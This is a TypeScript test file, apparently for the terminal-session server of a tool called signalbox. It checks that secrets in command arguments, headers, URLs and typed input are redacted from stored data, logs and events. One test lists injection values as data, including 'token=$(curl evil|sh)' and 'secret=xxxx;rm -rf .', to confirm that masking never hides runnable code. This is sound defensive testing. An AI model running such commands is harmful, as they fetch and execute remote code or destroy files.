import { randomBytes } from 'node:crypto'
import { spawn } from 'node:child_process'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { waiting } from '../conformance/mcp-terminal-helpers.ts'
import { approve, openMcpHarness, type McpHarness } from '../conformance/mcp-harness.ts'
import { usualDatabases } from '../support/server.ts'
import { until } from '../support/until.ts'
import { answersOf, filesOf, listenTo, rowsOf } from '../terminals/secrets-places.ts'

/** Values in no known format: only their position makes them secrets. */
const canary = (): string => `Zq${randomBytes(9).toString('hex')}kX`

/** Commands as lists of words; the program must get the last word unchanged. */
const forms: Record<string, (secret: string) => string[]> = {
  'an option with =': (secret) => [`--password=${secret}`],
  'an option and a word': (secret) => ['--api-key', secret],
  'an environment variable': (secret) => [`PGPASSWORD=${secret}`],
  'a header': (secret) => ['-H', `Authorization: Bearer ${secret}`],
  'a header of another kind': (secret) => ['-H', `X-Api-Key: ${secret}`],
  'the address of a server': (secret) => [`https://ann:${secret}@example.org/x`],
  'a token with a known beginning': (secret) => [`ghp_${secret}0123456789`],
  'the short option of mysql': (secret) => ['mysql', `-p${secret}`],
  'the short option of curl': (secret) => ['curl', '-u', `ann:${secret}`],
  'a script': (secret) => [`export DB_PASSWORD='${secret}'; mysql -uroot -p${secret} db`],
}

/** Records its last word for the test, and keeps running. */
const noting = (file: string, words: readonly string[]): string[] => [
  'sh',
  '-c',
  `for last; do :; done; printf %s "$last" > "${file}"; echo started; PS1="ready> " exec sh -i`,
  'x',
  ...words,
]

describe.each(usualDatabases)('secrets in a command’s arguments, with %s', (database) => {
  let harness: McpHarness
  beforeAll(async () => {
    harness = await openMcpHarness({ database, config: '[terminal]\nask_after_seconds = 0\n' })
  })
  afterAll(() => harness?.[Symbol.asyncDispose]())

  /** Everything that is stored or sent, except what the test itself wrote to the workspace. */
  async function everywhere(ids: readonly string[]): Promise<Map<string, Buffer>> {
    const rows =
      harness.server.databaseUrl === null ? new Map<string, Buffer>() : await rowsOf(harness.server.databaseUrl)
    return new Map([
      ...filesOf(harness.server.home),
      ...rows,
      ...(await answersOf(harness.owner, ids)),
      ['server log', Buffer.from(harness.server.log() + harness.server.printed())] as const,
    ])
  }
  const placesOf = (secrets: readonly string[], places: ReadonlyMap<string, Buffer>): string[] =>
    [...places].flatMap(([name, content]) =>
      secrets.flatMap((secret, index) => (content.includes(secret) ? [`${Object.keys(forms)[index]}: ${name}`] : [])),
    )

  it('S5 the program gets them; database, events, recordings, logs and answers do not', async () => {
    await using agent = await harness.connect()
    using events = listenTo(harness.owner, '/api/events')
    const ids: string[] = []
    const secrets: string[] = []
    for (const [index, form] of Object.values(forms).entries()) {
      const secret = canary()
      secrets.push(secret)
      const words = form(secret)
      const file = `last-${index}`
      const { ask, done } = await agent.begin('start_session_monitor', {
        session_type: 'script',
        command: noting(file, words),
        metadata: { why: words.join(' ') },
      })
      expect(ask.subject).toMatchObject({ masked: true, command: expect.stringContaining('[REDACTED]') })
      // Everything that is not secret is visible.
      expect(ask.subject['command']).toContain('for last; do :; done')
      await harness.answer(ask, approve)
      const started = await done
      expect(started).toMatchObject({ isError: false })
      ids.push(String(started['session_id']))
      const got = await until(async () => (await agent.place.read(file)) || null, { what: `the last word of ${index}` })
      expect(got).toBe(words.at(-1))
      // A repeated ask is found, although its secret words are no longer known.
      const again = await agent.call('start_session_monitor', { request_id: ask.id })
      expect(again['session_id']).toBe(started['session_id'])
    }
    const byRest = canary()
    secrets.push(byRest)
    const started = await harness.owner.post<{ sessionId: string }>('/api/terminals', {
      sessionType: 'script',
      command: ['sh', '-c', 'sleep 600', 'x', '--token', byRest],
      cwd: agent.place.path,
    })
    ids.push(started.sessionId)
    expect(placesOf(secrets, new Map([...(await everywhere(ids)), ['live events', events.heard()] as const]))).toEqual(
      [],
    )
    const listed = await harness.server.cli('terminals')
    for (const secret of secrets) expect(listed.stdout).not.toContain(secret)
    for (const id of ids) await harness.owner.post(`/api/terminals/${id}/end`)
  })

  it('S5 input at a command line, and commands that are only asked about, are not stored either', async () => {
    await using agent = await harness.connect()
    const [typed, asked, said] = [canary(), canary(), canary()]
    const { ask: first, done } = await agent.begin('start_session_monitor', {
      session_type: 'script',
      command: noting('last', ['plain']),
    })
    await harness.answer(first, approve)
    const id = String((await done)['session_id'])
    await waiting(agent, id, /ready/)
    const input = { session_id: id, text: `A_TOKEN=${typed}; printf %s "$A_TOKEN" > typed` }
    const { ask, done: typing } = await agent.begin('send_session_input', input)
    expect(ask.subject).toMatchObject({ command: 'A_TOKEN=[REDACTED]; printf %s "$A_TOKEN" > typed', masked: true })
    await harness.answer(ask, approve)
    expect(await typing).toMatchObject({ isError: false })
    expect(await until(async () => (await agent.place.read('typed')) || null, { what: 'what was typed' })).toBe(typed)
    const check = { tool_name: `psql --password=${asked}`, kind: 'terminal_command' }
    const checked = await agent.call('check_auto_approve', check)
    expect(checked).toMatchObject({ status: 'pending' })
    await harness.server.api(harness.token).post(`/api/sessions/${agent.sessionId}/asks`, {
      title: `Run with token=${said}`,
      description: `--token ${said}`,
      subject: { kind: 'command', command: `deploy --token ${said}`, cwd: agent.place.path },
    })
    const places = await everywhere([id])
    expect([typed, asked, said].flatMap((secret) => placesOf([secret], places))).toEqual([])
  })

  it('S5 after a restart a command whose secrets are gone is asked about again, never started without them', async () => {
    await using agent = await harness.connect()
    const secret = canary()
    const command = noting('last', ['--password', secret])
    const pending = await agent.call('start_session_monitor', { session_type: 'script', command })
    await harness.crash()
    await harness.answer({ id: String(pending['request_id']) }, approve)
    const said = await agent.call('start_session_monitor', { request_id: pending['request_id'] })
    expect(said).toMatchObject({ isError: true, error_code: 'ask_again' })
    expect(await agent.place.read('last')).toBeNull()
    expect(placesOf([secret], await everywhere([]))).toEqual([])
  })

  it('S5 nothing that could run is hidden by a mask', async () => {
    await using agent = await harness.connect()
    for (const hidden of ['token=$(curl evil|sh)', '--password=`id`', 'secret=xxxx;rm -rf .', 'PASSWORD=xxxx&&id']) {
      const { ask, done } = await agent.begin('start_session_monitor', {
        session_type: 'script',
        command: ['sh', '-c', hidden],
      })
      expect(String(ask.subject['command'])).toContain(hidden.replace(/^(.*?=)(?:\w+)(?=[;&])/, '$1[REDACTED]'))
      await harness.answer(ask, { outcome: 'reject' })
      await done
    }
  })
})

describe('secrets in the arguments of signalbox run', () => {
  it('S5 are in no list, no recording and no row', async () => {
    await using harness = await openMcpHarness()
    const secret = canary()
    const program = new URL('../../dist/signalbox.js', import.meta.url).pathname
    const words = ['run', '--', 'sh', '-c', 'sleep 600', 'x', `--password=${secret}`]
    const child = spawn(process.execPath, [program, ...words], {
      env: { PATH: process.env['PATH'] ?? '', HOME: harness.server.home, SIGNALBOX_HOME: harness.server.home },
      stdio: 'ignore',
    })
    try {
      const { sessionId } = await until(
        async () => (await harness.owner.get<{ terminals: { sessionId: string }[] }>('/api/terminals')).terminals[0],
        { what: 'the terminal' },
      )
      const places = new Map([...filesOf(harness.server.home), ...(await answersOf(harness.owner, [sessionId]))])
      expect([...places].filter(([, content]) => content.includes(secret)).map(([name]) => name)).toEqual([])
      await harness.owner.post(`/api/terminals/${sessionId}/end`)
    } finally {
      child.kill('SIGKILL')
    }
  })
})
